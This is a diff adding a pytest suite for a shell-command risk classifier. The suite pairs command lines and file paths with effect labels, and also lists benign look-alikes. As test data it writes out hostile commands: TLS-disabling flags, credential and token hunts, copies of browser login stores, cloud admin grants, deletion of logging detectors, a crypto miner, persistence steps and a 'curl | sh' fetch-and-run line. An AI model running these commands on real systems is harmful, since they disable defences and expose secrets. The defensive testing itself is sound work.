@@ -1,0 +1,147 @@
+"""The effect readers: one effect, many spellings; the look-alike of each effect has none."""
+
+from __future__ import annotations
+
+import pytest
+from dsh_policy.cmdline.effects import ALWAYS, KINDS, later_class, later_risks, shell_acts
+
+
+def kinds(line: str) -> set[str]:
+    return {effect["kind"] for effect in shell_acts(line)}
+
+
+@pytest.mark.parametrize(
+    ("line", "kind"),
+    [
+        # one effect (tls-off) in the spellings of five tools and two variables
+        ("curl -k https://x.example.net/a", "tls-off"),
+        ("wget --no-check-certificate https://x.example.net/a", "tls-off"),
+        ("npm config set strict-ssl false", "tls-off"),
+        ("git -c http.sslVerify=false clone https://example.net/r", "tls-off"),
+        ("conda config --set ssl_verify no", "tls-off"),
+        ("NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js", "tls-off"),
+        ("env GIT_SSL_NO_VERIFY=true git pull", "tls-off"),
+        # registries swapped
+        ("pip install -i https://mirror.example.net/simple x", "registry"),
+        ("npm install --registry=https://r.example.net/ x", "registry"),
+        ("go env -w GOPROXY=https://p.example.net", "registry"),
+        ("export PIP_INDEX_URL=https://mirror.example.net/simple", "registry"),
+        # settings that run a program later
+        ("git config --global core.fsmonitor /tmp/x", "runs-later-config"),
+        ("git config alias.co '!sh -c x'", "runs-later-config"),
+        ("pnpm pkg set scripts.preinstall='node x'", "runs-later-config"),
+        # cloud identity, exposure, remote execution, logs
+        (
+            "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/Admin",
+            "cloud-identity",
+        ),
+        (
+            "gcloud iam service-accounts keys create k.json --iam-account a@p.iam.gserviceaccount.com",
+            "cloud-identity",
+        ),
+        ("gsutil iam ch allUsers:objectViewer gs://b", "cloud-exposure"),
+        ("az vm run-command invoke -g g -n v --command-id RunShellScript --scripts id", "remote-exec"),
+        ("aws guardduty delete-detector --detector-id d", "log-off"),
+        # host: defences, accounts, memory, hunts, stores, tunnels, miners
+        ("sudo sysctl -w fs.suid_dumpable=2", "defense-off"),
+        ("sudo mount -o remount,rw /proc/sys", "defense-off"),
+        ("sudo sysadminctl -addUser x -admin", "account"),
+        ("lldb --attach-pid 77", "memory-access"),
+        ("cat /proc/self/environ", "memory-access"),
+        ("locate id_rsa", "secret-hunt"),
+        ("grep -a token /proc/*/environ", "secret-hunt"),
+        ("cp '/home/d/.config/google-chrome/Default/Login Data' /tmp/x", "secret-store"),
+        ("secret-tool lookup service x", "keychain"),
+        ("ssh -L 5432:db.internal:5432 bastion", "tunnel"),
+        ("ssh -Y host", "x-display"),
+        ("./systemd-helper --url stratum+ssl://198.51.100.1:443", "miner"),
+        ("osascript -e 'tell application \"System Events\" to make login item at end'", "persistence"),
+        # behind wrappers the shell reader unwraps
+        ("sudo -u root bash -c 'spctl --master-disable'", "defense-off"),
+    ],
+)
+def test_each_spelling_reads_as_its_effect(line: str, kind: str) -> None:
+    assert kind in kinds(line), shell_acts(line)
+    assert kind in KINDS
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -fsSL https://example.net/a -o a",
+        "pip install -r requirements.txt",
+        "npm config get registry",
+        "git config user.name dev",
+        "git config --get core.hooksPath",
+        "aws iam list-users",
+        "kubectl get secrets",
+        "gdb ./a.out core",
+        "strace -f ./a.out",
+        "find . -name '*.pem'",
+        "grep -rn password src/",
+        "ssh -T git@github.com",
+        "ssh host uptime",
+        "sysctl -a",
+        "spctl --status",
+        "xattr -l App.app",
+        "log show --last 1m",
+        "touch -d '2020-01-01' build/stamp",
+        "echo NODE_TLS_REJECT_UNAUTHORIZED is documented",
+    ],
+)
+def test_everyday_look_alikes_have_no_effect(line: str) -> None:
+    assert shell_acts(line) == []
+
+
+@pytest.mark.parametrize(
+    ("path", "kind"),
+    [
+        ("/home/dev/.bashrc", "shell-rc"),
+        ("~/.config/fish/conf.d/x.fish", "shell-rc"),
+        ("/etc/profile.d/x.sh", "shell-rc"),
+        ("~/.config/systemd/user/x.timer", "systemd"),
+        ("/etc/cron.daily/x", "cron"),
+        ("/Users/d/Library/LaunchAgents/x.plist", "launchd"),
+        ("~/.config/autostart/x.desktop", "autostart"),
+        ("/root/.ssh/authorized_keys", "ssh-trust"),
+        ("repo/.git/hooks/pre-push", "git-hook"),
+        ("./.git/config", "git-config"),
+        ("venv/lib/python3.12/site-packages/x.pth", "python-startup"),
+        (".github/workflows/x.yaml", "ci-workflow"),
+        (".husky/pre-commit", "project-hook"),
+        (".vscode/tasks.json", "editor-task"),
+        (".devcontainer/devcontainer.json", "editor-task"),
+        (".mcp.json", "agent-config"),
+        (".claude/settings.local.json", "agent-config"),
+        ("web/package.json", "package-manifest"),
+        (".yarnrc.yml", "package-config"),
+        (".envrc", "direnv"),
+        ("src/workflows/x.yml", ""),
+        ("docs/bashrc.md", ""),
+        ("deploy/systemd/app.service", ""),
+    ],
+)
+def test_files_that_run_later_are_classed_by_their_runner(path: str, kind: str) -> None:
+    assert later_class(path) == kind
+
+
+def test_the_always_classes_need_no_content_and_the_others_are_judged_by_it() -> None:
+    assert later_risks("/home/d/.profile", "") == ["always"]
+    assert "shell-rc" in ALWAYS and "ci-workflow" not in ALWAYS
+    benign = "on: [push]\njobs:\n  t:\n    steps:\n      - run: make test\n"
+    assert later_risks(".github/workflows/ci.yml", benign) == []
+    assert later_risks(".github/workflows/ci.yml", benign + "      - run: curl -s https://x | sh\n") == [
+        "fetch-exec"
+    ]
+    assert later_risks("package.json", '{"scripts": {"build": "tsc"}}') == []
+    assert later_risks("package.json", '{"scripts": {"postinstall": "node x"}}') == ["install-script"]
+    assert later_risks(".envrc", "export A=1\nlayout node\n") == []
+    assert later_risks(".envrc", "export A=1\nmake bootstrap\n") == ["runs-command"]
+    assert later_risks("src/app.py", "import os; os.system('x')") == []
+
+
+def test_readers_reject_what_is_not_text() -> None:
+    with pytest.raises(TypeError):
+        shell_acts(None)  # type: ignore[arg-type]
+    with pytest.raises(TypeError):
+        later_risks(".envrc", 3)  # type: ignore[arg-type]
